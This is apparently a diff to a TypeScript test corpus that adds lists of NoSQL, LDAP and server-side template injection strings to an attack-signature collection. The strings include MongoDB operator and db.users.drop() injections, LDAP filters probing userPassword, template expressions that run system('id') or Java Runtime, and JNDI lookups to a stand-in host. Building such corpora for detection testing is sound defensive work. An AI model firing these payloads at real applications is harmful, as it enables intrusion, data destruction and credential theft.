@@ -215,6 +215,81 @@ const XSS = [
   ...["{{constructor.constructor('alert(1)')()}}", '<iframe srcdoc="<b>">', '</script><b>'],
 ]
 
+const NOSQL = [
+  // Operators as names, as steps of names, and in texts of JSON.
+  ...combined(['$'], ['ne', 'gt', 'nin', 'where', 'regex', 'or', 'expr'], ['']),
+  ...combined(['user', 'a[b]', ''], ['[$ne]', '[$gt]', "['$in']", '[$regex]']),
+  ...combined(
+    ['{', '{ "a": {'],
+    ['"$ne"', "'$gt'", '$where', '$or'],
+    [': null}', ': [ {} ]', ": '1'}"],
+  ),
+  ...combined(["', ", 'x, ', "' }, "], ["$where: 'sleep(9)'", '$or: [{}]', '$expr: {']),
+  // Statements after a quote or a number, and calls of the shell.
+  ...combined(
+    ["'", "x'", '1', '5', "a') "],
+    [';', '||', ' && '],
+    ['var a=1', 'return true', 'while(1){}', 'do {}', 'if (1)', 'sleep(900)', 'this.a'],
+  ),
+  ...combined(
+    ['', "';", ' '],
+    ['db.users'],
+    ['.find({})', '.insertOne({a:1})', '.drop()', '.update ('],
+  ),
+]
+
+const LDAP = [
+  ...combined(
+    ['*', 'x', 'admin', ''],
+    [')(', '))('],
+    ['uid=*', 'objectClass=*', '&)', '|(cn=*', '!(a=b', 'mail>=a', 'sn~=x'],
+  ),
+  ...combined(
+    ['*', 'x', 'admin'],
+    ['(&(', '(|(', '(| (', '(&(!('],
+    ['uid=a)', 'cn=*)', 'a:dn:=b)', 'n<=5)'],
+  ),
+  ...combined(['(&(', '(|('], ['1=0)', 'uid=a)(0=1)', 'cn=*)(userPassword>=a)'], [')']),
+  ...combined(['userPassword', 'cn'], [':2.5.13.18:=', ':dn:2.5.13.2:='], ['x']),
+]
+
+const TEMPLATES = [
+  ...combined(
+    ['${', '#{', '*{', '@{', '{{', '{{{', '{{=', '<%= '],
+    ['7*7', "7*'7'", ' 13 * 37 ', '9+9'],
+    ['}', '}}', '%>'],
+  ),
+  ...combined(
+    ['{{', '{% set x = ', 'a{{ '],
+    ["''.__class__", '().__class__.__mro__[1]', 'x.__init__.__globals__', "''|attr('a')"],
+    ['}}', ' %}'],
+  ),
+  ...combined(
+    ['{{'],
+    ['config.items()', 'self._TemplateReference', 'request.application', '_self.env'],
+    ['}}'],
+  ),
+  ...combined(
+    ['${', '%{', '#{', '*{'],
+    ['T(java.lang.Runtime)', '"".getClass()', '#x.getRuntime()', 'x?new()'],
+    ['}'],
+  ),
+  ...combined(
+    ['${jndi:', '${${lower:j}ndi:', '${${::-j}ndi:', '${${env:A:-j}ndi:'],
+    ['ldap', 'rmi', 'dns'],
+    ['://a.example/x}'],
+  ),
+  ...combined(['<%= ', '#{', '${', '{{'], ['system("id")', 'exec("id")'], [' %>', '}']),
+  ...combined(['<%= ', '#{'], ['`id`'], [' %>', '}']),
+  ...combined(['{{["id"]'], ['|filter("system")', '|map("passthru")'], ['}}']),
+  ...combined(
+    ['${', '#{', '{{', '<%= '],
+    ['process.mainModule', 'global.process.x', 'require("fs")'],
+    ['}', ' %>'],
+  ),
+  '<#assign x="freemarker.template.utility.Execute"?new()>',
+]
+
 /** More than five hundred attacks, without duplicates. */
 export const ATTACKS: Readonly<Record<SignatureCategory, readonly string[]>> = {
   sql_injection: [...new Set(SQL)],
@@ -222,4 +297,7 @@ export const ATTACKS: Readonly<Record<SignatureCategory, readonly string[]>> = {
   command_injection: [...new Set(COMMANDS)],
   ssrf_target: [...new Set(SSRF)],
   cross_site_scripting: [...new Set(XSS)],
+  nosql_injection: [...new Set(NOSQL)],
+  ldap_injection: [...new Set(LDAP)],
+  template_injection: [...new Set(TEMPLATES)],
 }
